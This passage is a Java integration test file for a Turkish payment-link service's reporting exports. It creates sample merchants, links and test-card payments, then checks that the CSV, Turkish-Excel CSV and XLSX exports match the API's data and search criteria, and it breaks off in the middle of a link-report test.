package com.linkpos.reporting;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;

import com.linkpos.shared.Currency;
import com.linkpos.shared.Money;
import com.linkpos.support.Api;
import com.linkpos.support.Api.Merchant;
import com.linkpos.support.LinkPosTest;
import com.linkpos.support.Payer;
import com.linkpos.support.PortalSession;
import com.linkpos.support.PortalSession.Download;
import com.linkpos.support.TestData;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.time.OffsetDateTime;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.function.Consumer;
import java.util.stream.Collectors;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.support.StaticMessageSource;
import tools.jackson.databind.JsonNode;

/**
 * [M2][R1][R2] Exports read back as a program or Excel would read them, and compared with the data
 * they come from: CSV (decimal point, ISO times), CSV for Turkish Excel (BOM, ';', decimal comma),
 * XLSX (numbers and date cells); the same criteria as the search; one merchant's rows only.
 */
@LinkPosTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ExportTest {

    private static final ZoneId ISTANBUL = ZoneId.of("Europe/Istanbul");
    private static final ZoneOffset PLUS_THREE = ZoneOffset.ofHours(3);
    private static final byte[] BOM = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
    private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

    /** The transaction export's columns, as messages.properties names them. */
    private static final List<String> TX_HEADER_TR = List.of("Tarih", "İşlem no", "İşlem tipi", "Sonuç", "Sipariş No",
            "Tutar", "Döviz", "Taksit", "Kart", "Kart markası", "Kartı veren banka", "Onay kodu", "Referans",
            "Yanıt kodu", "Yanıt mesajı", "mdStatus", "ECI", "Ödeyen açıklaması", "Gün sonu no", "İade edilen",
            "İptal edildi", "Asıl işlem", "Link", "Link tutarı", "Vade farkı", "Komisyon", "BSMV", "Net", "Valör");
    private static final List<String> LINK_HEADER_TR = List.of("Sipariş No", "Link", "Tutar", "Döviz", "Taksit",
            "Başlangıç", "Bitiş", "Kullanım Tipi", "Durum", "Başarılı Ödeme", "Tahsil Edilen", "İade Edilen", "Net", "Oluşturulma");
    private static final List<String> LINK_REPORT_HEADER_TR = List.of("Sipariş No", "Oluşturulma", "Başlangıç", "Bitiş",
            "Kullanım Tipi", "Durum", "Başarılı Ödeme", "Tahsil Edilen", "İade Edilen", "Net", "Döviz", "Son ödeme", "Görüntülenme",
            "Ödeme denemesi");
    private static final String PAYER_NOTE = "Teşekkürler — İyi çalışmalar; ğüşıöç ĞÜŞİÖÇ, \"tırnak\"";

    @LocalServerPort
    int port;

    @Autowired
    javax.sql.DataSource db;

    Api api;
    Merchant merchant;
    Merchant other;

    /** Links by name: A 1250.50 TRY single, B 18900.00 TRY multi, C 18900 JPY single, D 99.99 USD unpaid. */
    final Map<String, String> linkIds = new LinkedHashMap<>();
    final Map<String, String> orderNumbers = new LinkedHashMap<>();
    String saleA;
    String saleB1;
    String declinedB;
    String saleB2;
    String saleC;
    String otherSale;
    String otherOrderNumber;

    @BeforeAll
    void payments() {
        api = new Api(port);
        merchant = api.newMerchant(List.of("JPY", "USD"), 12);
        other = api.newMerchant();

        Api.CreatedLink a = link(merchant, "A", Map.of("amount", "1250.50", "payerNoteEnabled", true,
                "description", "Kasım faturası — Çağrı Şişli Ödeme İşlemleri"));
        Api.CreatedLink b = link(merchant, "B", Map.of("amount", "18900.00", "usage", "MULTI",
                "description", "Güneşli deposu — çok kullanımlık ödeme"));
        Api.CreatedLink c = link(merchant, "C", Map.of("amount", "18900", "currency", "JPY",
                "description", "Tōkyō siparişi — yen ile ödeme"));
        link(merchant, "D", Map.of("amount", "99.99", "currency", "USD", "description", "Dolar ödemesi, henüz ödenmedi"));

        saleA = pay(a.token(), "4155650100416111", PAYER_NOTE, true);
        saleB1 = pay(b.token(), "5456160000000000", null, true);
        declinedB = pay(b.token(), "4000000000009995", null, false);
        saleB2 = pay(b.token(), "9792030000000000", null, true);
        saleC = pay(c.token(), "4111111111111111", null, true);

        otherOrderNumber = TestData.unique("OTHER");
        Api.Response created = api.post(other.key(), "/api/v1/links",
                Api.json(Map.of("orderNumber", otherOrderNumber, "amount", "1250.50")));
        assertThat(created.status()).as(created.toString()).isEqualTo(201);
        String url = created.json().path("url").asString();
        otherSale = pay(Api.tokenOf(url), "4155650100416111", null, true);
    }

    private Api.CreatedLink link(Merchant owner, String name, Map<String, Object> fields) {
        Map<String, Object> body = new HashMap<>(fields);
        body.put("orderNumber", TestData.unique("EXP-" + name));
        Api.CreatedLink link = api.newLink(owner, body);
        linkIds.put(name, link.id());
        orderNumbers.put(name, link.orderNumber());
        return link;
    }

    private String pay(String token, String card, String note, boolean approved) {
        return new Payer(port).pay(token, card, note, approved);
    }

    // ---------------------------------------------------------------- downloads and parsing

    record Bytes(int status, String contentType, String contentDisposition, byte[] body) {
        String text() {
            return new String(body, StandardCharsets.UTF_8);
        }
    }

    private Bytes apiDownload(String key, String path, String language) {
        HttpRequest request = HttpRequest.newBuilder(URI.create(api.baseUrl() + path)).timeout(Duration.ofSeconds(30))
                .header("Authorization", "Bearer " + key).header("Accept-Language", language).GET().build();
        try {
            HttpResponse<byte[]> response = HTTP.send(request, HttpResponse.BodyHandlers.ofByteArray());
            return new Bytes(response.statusCode(), response.headers().firstValue("Content-Type").orElse(""),
                    response.headers().firstValue("Content-Disposition").orElse(""), response.body());
        } catch (IOException | InterruptedException e) {
            throw new IllegalStateException(path, e);
        }
    }

    private Bytes apiDownload(String path) {
        return apiDownload(merchant.key(), path, "tr");
    }

    private static Bytes of(Download download) {
        return new Bytes(download.status(), download.contentType(), download.contentDisposition(), download.body());
    }

    /** The CSV for programs: header first, then the records. */
    private static List<List<String>> csv(Bytes file, char delimiter) {
        assertThat(file.status()).as(file.text()).isEqualTo(200);
        assertThat(file.contentType()).startsWith("text/csv");
        String text = file.text();
        if (delimiter == ';') {
            assertThat(Arrays.copyOf(file.body(), 3)).as("UTF-8 byte order mark for Excel").isEqualTo(BOM);
            text = text.substring(1);
        } else {
            assertThat(file.body()[0]).as("no byte order mark in the CSV for programs").isNotEqualTo(BOM[0]);
        }
        CSVFormat format = CSVFormat.DEFAULT.builder().setDelimiter(delimiter).get();
        try (CSVParser parser = CSVParser.parse(new StringReader(text), format)) {
            List<List<String>> rows = new ArrayList<>();
            for (CSVRecord record : parser) {
                rows.add(record.toList());
            }
            assertThat(rows).as("at least the header row").isNotEmpty();
            rows.forEach(row -> assertThat(row).hasSameSizeAs(rows.get(0)));
            return rows;
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    /** The data rows by the value of one column, each row as column name → value. */
    private static Map<String, Map<String, String>> byColumn(List<List<String>> rows, String column) {
        List<String> header = rows.get(0);
        Map<String, Map<String, String>> result = new LinkedHashMap<>();
        for (List<String> row : rows.subList(1, rows.size())) {
            Map<String, String> named = new LinkedHashMap<>();
            for (int i = 0; i < header.size(); i++) {
                named.put(header.get(i), row.get(i));
            }
            assertThat(result.put(named.get(column), named)).as("one row per %s %s", column, named.get(column)).isNull();
        }
        return result;
    }

    private static XSSFWorkbook xlsx(Bytes file) {
        assertThat(file.status()).as(file.text()).isEqualTo(200);
        assertThat(file.contentType()).isEqualTo("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        assertThat(file.contentDisposition()).contains("attachment").contains(".xlsx");
        try {
            return new XSSFWorkbook(new ByteArrayInputStream(file.body()));
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static List<String> headerOf(Sheet sheet) {
        Row header = sheet.getRow(0);
        List<String> names = new ArrayList<>();
        for (int i = 0; i < header.getLastCellNum(); i++) {
            names.add(header.getCell(i).getStringCellValue());
        }
        return names;
    }

    private JsonNode transaction(String id) {
        Api.Response response = api.get(merchant.key(), "/api/v1/transactions/" + id);
        assertThat(response.status()).as(response.toString()).isEqualTo(200);
        return response.json();
    }

    private JsonNode linkJson(String name) {
        Api.Response response = api.get(merchant.key(), "/api/v1/links/" + linkIds.get(name));
        assertThat(response.status()).as(response.toString()).isEqualTo(200);
        return response.json();
    }

    private Set<String> searchIds(String query) {
        Api.Response found = api.get(merchant.key(), "/api/v1/transactions?limit=500" + (query.isEmpty() ? "" : "&" + query));
        assertThat(found.status()).as(found.toString()).isEqualTo(200);
        assertThat(found.json().path("nextCursor").isNull()).isTrue();
        return found.json().path("data").valueStream().map(t -> t.path("id").asString()).collect(Collectors.toSet());
    }

    private static String text(JsonNode node) {
        return node.isNull() || node.isMissingNode() ? "" : node.asString();
    }

    private static Instant instant(JsonNode node) {
        return Instant.parse(node.asString());
    }

    private static LocalDateTime istanbul(Instant instant) {
        return LocalDateTime.ofInstant(instant, ISTANBUL);
    }

    private static Instant isoPlusThree(String value) {
        OffsetDateTime time = OffsetDateTime.parse(value, DateTimeFormatter.ISO_OFFSET_DATE_TIME);
        assertThat(time.getOffset()).as("Istanbul offset in %s", value).isEqualTo(PLUS_THREE);
        return time.toInstant();
    }

    private Set<String> allTransactions() {
        return Set.of(saleA, saleB1, declinedB, saleB2, saleC);
    }

    // ---------------------------------------------------------------- transactions: CSV

    @Test
    @DisplayName("Transactions CSV: Turkish header, one record per transaction with the API's values, decimal point, ISO +03:00")
    void transactionsCsvIsTheLedgerAsTheApiTellsIt() {
        Bytes file = apiDownload("/api/v1/transactions/export?format=csv");
        assertThat(file.contentType()).isEqualTo("text/csv;charset=UTF-8");
        assertThat(file.contentDisposition()).contains("attachment")
                .contains("transactions-" + LocalDate.now(ISTANBUL) + ".csv");
        List<List<String>> rows = csv(file, ',');

        assertThat(rows.get(0)).containsExactlyElementsOf(TX_HEADER_TR);
        Map<String, Map<String, String>> byId = byColumn(rows, "İşlem no");
        assertThat(byId.keySet()).containsExactlyInAnyOrderElementsOf(allTransactions());
        // newest first, like the search
        List<Instant> times = rows.subList(1, rows.size()).stream().map(row -> isoPlusThree(row.get(0))).toList();
        assertThat(times).isSortedAccordingTo(java.util.Comparator.reverseOrder());

        for (Map.Entry<String, Map<String, String>> entry : byId.entrySet()) {
            JsonNode t = transaction(entry.getKey());
            Map<String, String> row = entry.getValue();
            assertThat(isoPlusThree(row.get("Tarih"))).as("time of %s", entry.getKey()).isEqualTo(instant(t.path("createdAt")));
            assertThat(row.get("İşlem tipi")).isEqualTo(t.path("type").asString());
            assertThat(row.get("Sonuç")).isEqualTo(t.path("status").asString());
            assertThat(row.get("Sipariş No")).isEqualTo(t.path("orderNumber").asString());
            assertThat(row.get("Tutar")).isEqualTo(t.path("amount").asString());
            assertThat(row.get("Döviz")).isEqualTo(t.path("currency").asString());
            assertThat(row.get("Taksit")).isEqualTo("1");
            assertThat(row.get("Kart")).isEqualTo(t.path("card").path("masked").asString());
            assertThat(row.get("Kart markası")).isEqualTo(t.path("card").path("brand").asString());
            assertThat(row.get("Kartı veren banka")).isEqualTo(t.path("card").path("issuer").asString());
            assertThat(row.get("Onay kodu")).isEqualTo(text(t.path("authCode")));
            assertThat(row.get("Referans")).isEqualTo(text(t.path("hostReference")));
            assertThat(row.get("Yanıt kodu")).isEqualTo(t.path("responseCode").asString());
            assertThat(row.get("Yanıt mesajı")).isEqualTo(text(t.path("responseMessage")));
            assertThat(row.get("mdStatus")).isEqualTo("1");
            assertThat(row.get("ECI")).isEqualTo(t.path("threeDSecure").path("eci").asString());
            assertThat(row.get("Ödeyen açıklaması")).isEqualTo(text(t.path("payerNote")));
            assertThat(row.get("Gün sonu no")).isEqualTo(t.path("batchNumber").isNull() ? "" : String.valueOf(t.path("batchNumber").asInt()));
            assertThat(row.get("İade edilen")).isEqualTo(t.path("refundedAmount").asString());
            assertThat(row.get("İptal edildi")).isEqualTo(String.valueOf(t.path("voided").asBoolean()));
            assertThat(row.get("Link tutarı")).isEqualTo(t.path("baseAmount").asString());
            assertThat(row.get("Vade farkı")).isEqualTo(t.path("installmentCost").asString());
            assertThat(List.of(row.get("Komisyon"), row.get("BSMV"), row.get("Net"), row.get("Valör"))).isEqualTo(
                    t.path("settlement").isNull() ? List.of("", "", "", "") : List.of(t.path("settlement").path("commission").asString(),
                            t.path("settlement").path("commissionTax").asString(), t.path("settlement").path("net").asString(),
                            t.path("settlement").path("valueDate").asString()));
            assertThat(row.get("Asıl işlem")).isEmpty();
            assertThat(row.get("Link")).isEqualTo(t.path("linkId").asString());
        }

        // the values themselves, not only "equal to the API"
        assertThat(byId.get(saleA)).containsEntry("Tutar", "1250.50").containsEntry("Döviz", "TRY")
                .containsEntry("Kart", "415565******6111").containsEntry("Kart markası", "VISA")
                .containsEntry("İşlem tipi", "SALE").containsEntry("Sonuç", "APPROVED")
                .containsEntry("Sipariş No", orderNumbers.get("A")).containsEntry("Ödeyen açıklaması", PAYER_NOTE)
                .containsEntry("İade edilen", "0.00").containsEntry("Link", linkIds.get("A"));
        assertThat(byId.get(saleA).get("Onay kodu")).matches("[A-Z0-9]{6}");
        assertThat(byId.get(saleA).get("Gün sonu no")).matches("\\d+");
        assertThat(byId.get(saleB1)).containsEntry("Tutar", "18900.00").containsEntry("Kart", "545616******0000")
                .containsEntry("Kart markası", "MASTERCARD").containsEntry("ECI", "02");
        assertThat(byId.get(saleB2)).containsEntry("Kart markası", "TROY").containsEntry("Kart", "979203******0000");
        assertThat(byId.get(declinedB)).containsEntry("Sonuç", "DECLINED").containsEntry("Yanıt kodu", "51")
                .containsEntry("Onay kodu", "").containsEntry("Gün sonu no", "").containsEntry("Kart", "400000******9995");
        assertThat(byId.get(saleC)).containsEntry("Tutar", "18900").containsEntry("Döviz", "JPY")
                .containsEntry("Kart", "411111******1111");
    }

    @Test
    @DisplayName("Transactions CSV in English: English header names, same values")
    void transactionsCsvFollowsAcceptLanguage() {
        List<List<String>> rows = csv(apiDownload(merchant.key(), "/api/v1/transactions/export?format=csv", "en"), ',');
        assertThat(rows.get(0)).startsWith("Date", "Transaction id").contains("Order No", "Amount");
        assertThat(byColumn(rows, "Transaction id").get(saleA)).containsEntry("Amount", "1250.50");
    }

    @Test
    @DisplayName("Transactions CSV selects what the search selects: every criterion, and a day outside gives only the header")
    void csvCriteriaAreTheSearchCriteria() {
        String authA = transaction(saleA).path("authCode").asString();
        Map<String, Set<String>> expected = new LinkedHashMap<>();
        expected.put("", allTransactions());
        expected.put("status=DECLINED", Set.of(declinedB));
        expected.put("status=APPROVED", Set.of(saleA, saleB1, saleB2, saleC));
        expected.put("type=SALE", allTransactions());
        expected.put("type=REFUND", Set.of());
        expected.put("currency=JPY", Set.of(saleC));
        expected.put("currency=TRY", Set.of(saleA, saleB1, declinedB, saleB2));
        expected.put("minAmount=1000&maxAmount=1300", Set.of(saleA));
        expected.put("minAmount=18900", Set.of(saleB1, declinedB, saleB2, saleC));
        expected.put("maxAmount=1250.49", Set.of());
        expected.put("cardLast4=6111", Set.of(saleA));
        expected.put("cardLast4=9995", Set.of(declinedB));
        expected.put("authCode=" + authA, Set.of(saleA));
        expected.put("orderNumber=" + orderNumbers.get("B"), Set.of(saleB1, declinedB, saleB2));
        expected.put("linkId=" + linkIds.get("B") + "&status=APPROVED", Set.of(saleB1, saleB2));
        expected.put("linkId=" + linkIds.get("D"), Set.of());
        String today = LocalDate.now(ISTANBUL).toString();
        expected.put("from=" + today + "&to=" + today, allTransactions());
        expected.put("from=2020-01-01&to=2020-01-31", Set.of());
        expected.put("from=" + LocalDate.now(ISTANBUL).plusDays(1), Set.of());

        expected.forEach((query, ids) -> {
            List<List<String>> rows = csv(apiDownload("/api/v1/transactions/export?format=csv" + (query.isEmpty() ? "" : "&" + query)), ',');
            assertThat(rows.get(0)).as("header for %s", query).containsExactlyElementsOf(TX_HEADER_TR);
            assertThat(byColumn(rows, "İşlem no").keySet()).as("export for '%s'", query).containsExactlyInAnyOrderElementsOf(ids);
            assertThat(searchIds(query)).as("search for '%s'", query).containsExactlyInAnyOrderElementsOf(ids);
        });
    }

    @Test
    @DisplayName("Export with unreadable criteria or format: 400 problem, no file")
    void badExportCriteriaAreRefused() {
        Api.Response last4 = api.get(merchant.key(), "/api/v1/transactions/export?format=csv&cardLast4=12a");
        assertThat(last4.status()).isEqualTo(400);
        assertThat(last4.contentType()).startsWith("application/problem+json");
        assertThat(last4.fieldErrors()).contains("cardLast4:invalid_last4");

        Api.Response range = api.get(merchant.key(), "/api/v1/transactions/export?format=csv&minAmount=10&maxAmount=5");
        assertThat(range.status()).isEqualTo(400);
        assertThat(range.fieldErrors()).contains("maxAmount:invalid_amount_range");

        Api.Response format = api.get(merchant.key(), "/api/v1/transactions/export?format=pdf");
        assertThat(format.status()).isEqualTo(400);
        assertThat(format.fieldErrors()).contains("format:invalid_export_format");

        Api.Response status = api.get(merchant.key(), "/api/v1/links/export?format=csv&status=PAID");
        assertThat(status.status()).isEqualTo(400);
        assertThat(status.fieldErrors()).contains("status:invalid_status");
    }

    // ---------------------------------------------------------------- transactions: CSV for Turkish Excel

    @Test
    @DisplayName("CSV with decimal=comma: BOM, ';' separated, 1250,50 and 27.11.2026 12:34:56")
    void decimalCommaCsvIsForTurkishExcel() {
        Bytes file = apiDownload("/api/v1/transactions/export?format=csv&decimal=comma");
        List<List<String>> rows = csv(file, ';');
        assertThat(rows.get(0)).containsExactlyElementsOf(TX_HEADER_TR);
        assertThat(file.text().substring(1)).startsWith("Tarih;İşlem no;");
        Map<String, Map<String, String>> byId = byColumn(rows, "İşlem no");
        assertThat(byId.keySet()).containsExactlyInAnyOrderElementsOf(allTransactions());

        assertThat(byId.get(saleA)).containsEntry("Tutar", "1250,50").containsEntry("İade edilen", "0,00")
                .containsEntry("Ödeyen açıklaması", PAYER_NOTE);
        assertThat(byId.get(saleB1)).containsEntry("Tutar", "18900,00");
        assertThat(byId.get(saleC)).containsEntry("Tutar", "18900");
        DateTimeFormatter turkish = DateTimeFormatter.ofPattern("dd.MM.yyyy HH:mm:ss");
        for (String id : allTransactions()) {
            String time = byId.get(id).get("Tarih");
            assertThat(time).matches("\\d{2}\\.\\d{2}\\.\\d{4} \\d{2}:\\d{2}:\\d{2}");
            assertThat(LocalDateTime.parse(time, turkish))
                    .isEqualTo(istanbul(instant(transaction(id).path("createdAt"))).truncatedTo(ChronoUnit.SECONDS));
        }
    }

    // ---------------------------------------------------------------- transactions: XLSX

    @Test
    @DisplayName("Transactions XLSX: header row, numeric amounts, date cells in Istanbul time, one row per transaction")
    void transactionsXlsxHasNumbersAndDates() throws IOException {
        try (XSSFWorkbook workbook = xlsx(apiDownload("/api/v1/transactions/export?format=xlsx"))) {
            assertThat(workbook.getNumberOfSheets()).isEqualTo(1);
            Sheet sheet = workbook.getSheetAt(0);
            assertThat(sheet.getSheetName()).isEqualTo("İşlemler");
            assertThat(headerOf(sheet)).containsExactlyElementsOf(TX_HEADER_TR);
            assertThat(sheet.getRow(0).getCell(0).getCellStyle().getFontIndex()).isNotZero();
            assertThat(sheet.getLastRowNum()).isEqualTo(allTransactions().size());

            Map<String, Row> byId = new HashMap<>();
            for (int r = 1; r <= sheet.getLastRowNum(); r++) {
                Row row = sheet.getRow(r);
                assertThat(byId.put(row.getCell(1).getStringCellValue(), row)).isNull();
            }
            assertThat(byId.keySet()).containsExactlyInAnyOrderElementsOf(allTransactions());
            for (Map.Entry<String, Row> entry : byId.entrySet()) {
                JsonNode t = transaction(entry.getKey());
                Row row = entry.getValue();
                Cell date = row.getCell(0);
                assertThat(date.getCellType()).isEqualTo(CellType.NUMERIC);
                assertThat(DateUtil.isCellDateFormatted(date)).as("a date cell").isTrue();
                LocalDateTime expected = istanbul(instant(t.path("createdAt")));
                assertThat(ChronoUnit.MILLIS.between(expected, date.getLocalDateTimeCellValue())).isBetween(-1L, 1L);
                // in the reader's words, not the codes programs read
                assertThat(row.getCell(2).getStringCellValue()).isEqualTo(Map.of("SALE", "Satış", "VOID", "İptal", "REFUND", "İade")
                        .get(t.path("type").asString()));
                assertThat(row.getCell(3).getStringCellValue()).isEqualTo(Map.of("APPROVED", "Onaylandı", "DECLINED", "Reddedildi")
                        .get(t.path("status").asString()));
                Cell amount = row.getCell(5);
                assertThat(amount.getCellType()).as("amount is a number").isEqualTo(CellType.NUMERIC);
                assertThat(amount.getNumericCellValue()).isEqualTo(new BigDecimal(t.path("amount").asString()).doubleValue());
                assertThat(row.getCell(6).getStringCellValue()).isEqualTo(t.path("currency").asString());
                assertThat(row.getCell(7).getNumericCellValue()).isEqualTo(1.0);
                assertThat(row.getCell(8).getStringCellValue()).isEqualTo(t.path("card").path("masked").asString());
                assertThat(row.getCell(19).getNumericCellValue()).isEqualTo(new BigDecimal(t.path("refundedAmount").asString()).doubleValue());
                assertThat(row.getCell(20).getStringCellValue()).isEqualTo(t.path("voided").asBoolean() ? "Evet" : "Hayır");
                assertThat(row.getCell(22).getStringCellValue()).isEqualTo(t.path("linkId").asString());
            }
            assertThat(byId.get(saleA).getCell(5).getNumericCellValue()).isEqualTo(1250.50);
            assertThat(byId.get(saleA).getCell(5).getCellStyle().getDataFormatString()).isEqualTo("#,##0.00");
            assertThat(byId.get(saleA).getCell(17).getStringCellValue()).isEqualTo(PAYER_NOTE);
            assertThat(byId.get(saleB1).getCell(5).getNumericCellValue()).isEqualTo(18900.00);
            assertThat(byId.get(saleC).getCell(5).getNumericCellValue()).isEqualTo(18900.0);
            assertThat(byId.get(saleC).getCell(5).getCellStyle().getDataFormatString()).isEqualTo("#,##0");
            assertThat(byId.get(saleA).getCell(18).getCellType()).as("batch number is a number").isEqualTo(CellType.NUMERIC);
            Cell declinedBatch = byId.get(declinedB).getCell(18);
            assertThat(declinedBatch == null || declinedBatch.getCellType() == CellType.BLANK).as("no batch for a decline").isTrue();
        }
    }

    @Test
    @DisplayName("XLSX with criteria and nothing selected: the sheet still has its header")
    void emptyXlsxHasItsHeader() throws IOException {
        try (XSSFWorkbook workbook = xlsx(apiDownload("/api/v1/transactions/export?format=xlsx&from=2020-01-01&to=2020-01-02"))) {
            assertThat(workbook.getNumberOfSheets()).isEqualTo(1);
            assertThat(headerOf(workbook.getSheetAt(0))).containsExactlyElementsOf(TX_HEADER_TR);
            assertThat(workbook.getSheetAt(0).getLastRowNum()).isZero();
        }
        try (XSSFWorkbook workbook = xlsx(apiDownload("/api/v1/transactions/export?format=xlsx&status=DECLINED"))) {
            Sheet sheet = workbook.getSheetAt(0);
            assertThat(sheet.getLastRowNum()).isEqualTo(1);
            assertThat(sheet.getRow(1).getCell(1).getStringCellValue()).isEqualTo(declinedB);
        }
    }

    // ---------------------------------------------------------------- links

    @Test
    @DisplayName("Links CSV (API) with status: exactly the links of that status, with URL, amounts, counts and times")
    void linkCsvByStatus() {
        List<List<String>> used = csv(apiDownload("/api/v1/links/export?format=csv&status=USED"), ',');
        assertThat(used.get(0)).containsExactlyElementsOf(LINK_HEADER_TR);
        Map<String, Map<String, String>> usedRows = byColumn(used, "Sipariş No");
        assertThat(usedRows.keySet()).containsExactlyInAnyOrder(orderNumbers.get("A"), orderNumbers.get("C"));

        List<List<String>> active = csv(apiDownload("/api/v1/links/export?format=csv&status=ACTIVE"), ',');
        Map<String, Map<String, String>> activeRows = byColumn(active, "Sipariş No");
        assertThat(activeRows.keySet()).containsExactlyInAnyOrder(orderNumbers.get("B"), orderNumbers.get("D"));

        List<List<String>> all = csv(apiDownload("/api/v1/links/export?format=csv"), ',');
        Map<String, Map<String, String>> rows = byColumn(all, "Sipariş No");
        assertThat(rows.keySet()).containsExactlyInAnyOrderElementsOf(orderNumbers.values());
        assertThat(csv(apiDownload("/api/v1/links/export?format=csv&status=DELETED"), ',')).hasSize(1);
        assertThat(byColumn(csv(apiDownload("/api/v1/links/export?format=csv&orderNumber=" + orderNumbers.get("C")), ','),
                "Sipariş No").keySet()).containsExactly(orderNumbers.get("C"));

        for (String name : orderNumbers.keySet()) {
            JsonNode link = linkJson(name);
            Map<String, String> row = rows.get(orderNumbers.get(name));
            assertThat(row.get("Link")).isEqualTo(link.path("url").asString());
            assertThat(row.get("Tutar")).isEqualTo(link.path("amount").asString());
            assertThat(row.get("Döviz")).isEqualTo(link.path("currency").asString());
            assertThat(row.get("Taksit")).isEqualTo("1");
            assertThat(isoPlusThree(row.get("Başlangıç"))).isEqualTo(instant(link.path("validFrom")));
            assertThat(isoPlusThree(row.get("Bitiş"))).isEqualTo(instant(link.path("validUntil")));
            assertThat(row.get("Kullanım Tipi")).isEqualTo(link.path("usage").asString());
            assertThat(row.get("Durum")).isEqualTo(link.path("status").asString());
            assertThat(row.get("Başarılı Ödeme")).isEqualTo(String.valueOf(link.path("paymentCount").asInt()));
            assertThat(row.get("Tahsil Edilen")).isEqualTo(link.path("collectedAmount").asString());
            assertThat(isoPlusThree(row.get("Oluşturulma"))).isEqualTo(instant(link.path("createdAt")));
        }
        assertThat(rows.get(orderNumbers.get("A"))).containsEntry("Tutar", "1250.50").containsEntry("Durum", "USED")
                .containsEntry("Başarılı Ödeme", "1").containsEntry("Tahsil Edilen", "1250.50");
        assertThat(rows.get(orderNumbers.get("B"))).containsEntry("Kullanım Tipi", "MULTI").containsEntry("Durum", "ACTIVE")
                .containsEntry("Başarılı Ödeme", "2").containsEntry("Tahsil Edilen", "37800.00");
        assertThat(rows.get(orderNumbers.get("C"))).containsEntry("Tutar", "18900").containsEntry("Döviz", "JPY")
                .containsEntry("Tahsil Edilen", "18900");
        assertThat(rows.get(orderNumbers.get("D"))).containsEntry("Tutar", "99.99").containsEntry("Döviz", "USD")
                .containsEntry("Başarılı Ödeme", "0").containsEntry("Tahsil Edilen", "0.00");
    }

    @Test
    @DisplayName("Portal link list «Dışa Aktar» Excel: the list's filter carried into /links/export, numbers and dates in cells")
    void portalLinkListXlsx() throws IOException {
        PortalSession admin = PortalSession.loggedIn(port, merchant);
        String href = admin.get("/links?status=ACTIVE").document().selectFirst("#export-xlsx").attr("href");
        assertThat(href).startsWith("/links/export").contains("status=ACTIVE").contains("format=xlsx");

        Bytes file = of(admin.download(href));
        assertThat(file.contentDisposition()).contains("linkler-" + LocalDate.now(ISTANBUL) + ".xlsx");
        try (XSSFWorkbook workbook = xlsx(file)) {
            Sheet sheet = workbook.getSheetAt(0);
            assertThat(sheet.getSheetName()).isEqualTo("Linkler");
            assertThat(headerOf(sheet)).containsExactlyElementsOf(LINK_HEADER_TR);
            assertThat(sheet.getPaneInformation()).as("the header row stays in sight").isNotNull();
            assertThat(sheet.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 1);
            assertThat(sheet.getColumnWidth(1)).as("the URL column is wide enough to read").isGreaterThanOrEqualTo(60 * 256);
            assertThat(sheet.getRow(0).getCell(0).getCellStyle().getFontIndex()).as("a bold header").isPositive();
            Map<String, Row> byOrder = new HashMap<>();
            for (int r = 1; r <= sheet.getLastRowNum(); r++) {
                byOrder.put(sheet.getRow(r).getCell(0).getStringCellValue(), sheet.getRow(r));
            }
            assertThat(byOrder.keySet()).containsExactlyInAnyOrder(orderNumbers.get("B"), orderNumbers.get("D"));
            Row b = byOrder.get(orderNumbers.get("B"));
            assertThat(b.getCell(1).getStringCellValue()).isEqualTo(linkJson("B").path("url").asString());
            assertThat(b.getCell(2).getNumericCellValue()).isEqualTo(18900.0);
            assertThat(b.getCell(9).getNumericCellValue()).isEqualTo(2.0);
            assertThat(b.getCell(10).getNumericCellValue()).isEqualTo(37800.0);
            assertThat(b.getCell(11).getNumericCellValue()).as("refunded").isEqualTo(0.0);
            assertThat(b.getCell(12).getNumericCellValue()).as("net").isEqualTo(37800.0);
            assertThat(DateUtil.isCellDateFormatted(b.getCell(13))).isTrue();
            assertThat(ChronoUnit.MILLIS.between(istanbul(instant(linkJson("B").path("createdAt"))),
                    b.getCell(13).getLocalDateTimeCellValue())).isBetween(-1L, 1L);
            Row d = byOrder.get(orderNumbers.get("D"));
            assertThat(d.getCell(2).getNumericCellValue()).isEqualTo(99.99);
            assertThat(d.getCell(3).getStringCellValue()).isEqualTo("USD");
            assertThat(d.getCell(10).getNumericCellValue()).isEqualTo(0.0);
        }
        // without a filter: every link of the merchant
        try (XSSFWorkbook workbook = xlsx(of(admin.download("/links/export?format=xlsx")))) {
            assertThat(workbook.getSheetAt(0).getLastRowNum()).isEqualTo(orderNumbers.size());
        }
    }

    @Test
    @DisplayName("LinkPOS Raporu CSV: per link order number, payments, collected total and the time of the last payment")
    void linkReportCsvHasTheLastPayment() {
        PortalSession admin = PortalSession.loggedIn(port, merchant);
        String href = admin.get("/reports/links").document().selectFirst("#export-csv").attr("href");
        assertThat(href).startsWith("/reports/links/export").contains("format=csv");
        Bytes file = of(admin.download(href));
